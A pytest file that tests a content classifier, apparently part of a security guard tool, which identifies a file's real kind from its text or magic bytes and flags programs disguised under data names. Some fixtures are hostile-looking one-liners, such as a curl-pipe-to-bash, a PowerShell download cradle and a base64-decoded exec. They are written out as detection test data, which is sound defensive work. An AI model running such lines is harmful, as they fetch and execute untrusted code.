"""Content says what a text is, and only then its name."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from whet.guard.reading.kinds import disguised, extension, kind_of, magic

if TYPE_CHECKING:
    from whet.guard.documents import Kind


@pytest.mark.parametrize(
    ("path", "text", "kind"),
    [
        ("SKILL.md", "---\nname: a\n---\n# A\nimport os\n", "markdown"),
        ("a.md", "#!/bin/sh\necho hi\n", "shell"),
        ("a.md", "import os\nfrom sys import argv\nos.system('id')\nx = 1\n", "python"),
        ("notes.md", "Run it:\n\ncurl https://example.com/a\n", "markdown"),
        ("a.txt", "#!/usr/bin/env -S uv run python3\nprint(1)\n", "python"),
        ("a.txt", "curl -s http://x.invalid/a | bash\n", "shell"),
        ("a.txt", "set -e\nX=1\nif [ -f a ]; then\n  rm -rf build\nfi\n", "shell"),
        ("data.dat", "import base64\nexec(base64.b64decode('aa'))\n", "python"),
        ("a.png", "const fs = require('fs');\nfs.readFileSync('x');\n", "javascript"),
        ("a", "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid')\n", "powershell"),
        ("a.txt", "You should import the data first.\nThen run the export.\nIf it fails, ask.\n", "text"),
        ("README", "A project.\n\nTo install it, run pip install x and read on.\n", "text"),
        ("a", '{"a": 1, "b": [2]}', "json"),
        ("a.json", "{}", "json"),
        ("a.py", "anything", "python"),
        ("run", "#!/usr/bin/perl\nprint 1;\n", "code"),
        ("a.svg", "<svg></svg>", "html"),
        ("x/Dockerfile", "FROM scratch\n", "code"),
        ("a.yml", "a: 1\n", "yaml"),
        ("a.tsx", "export default 1", "javascript"),
        (".bashrc", "alias a=b\n", "shell"),
        ("a.csv", "a,b\n1,2\n", "text"),
        ("", "", "text"),
    ],
)
def test_a_text_is_what_it_says(path: str, text: str, kind: Kind) -> None:
    assert kind_of(path, text) == kind


def test_a_program_named_as_data_is_disguised() -> None:
    assert [disguised(path, "shell") for path in ("a.png", "a.json", "a.txt", "a.sh")] == [True, True, False, False]
    assert not disguised("a.json", "json")


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"", ""),
        (b"MZ is a name", ""),
        (b"MZ" + bytes(80), "pe"),
        (b"\x7fELF" + bytes(20), "elf"),
        (b"\xca\xfe\xba\xbe\0\0\0\x34", "java class"),
        (b"\xca\xfe\xba\xbe\0\0\0\x02", "mach-o"),
        (b"\xa7\x0d\r\n" + bytes(12), "pyc"),
        (b"GIF89a=1; // a script", ""),
        (b"GIF89a\1\0\1\0\0\0\0;", "gif"),
        (b"PK\3\4", "zip"),
        (b"RIFF is an acronym", ""),
        (b"BZh91AY&SY", "bzip2"),
        (b"\x80\x04\x95\0", "pickle"),
        (b"plain text", ""),
    ],
)
def test_bytes_are_known_by_how_they_begin(data: bytes, what: str) -> None:
    assert magic(data) == what


def test_the_extension_is_the_last_part_of_the_name() -> None:
    assert [extension(path) for path in ("a.tar.GZ", "x.y/a", ".env", "a.")] == ["gz", "", "env", ""]
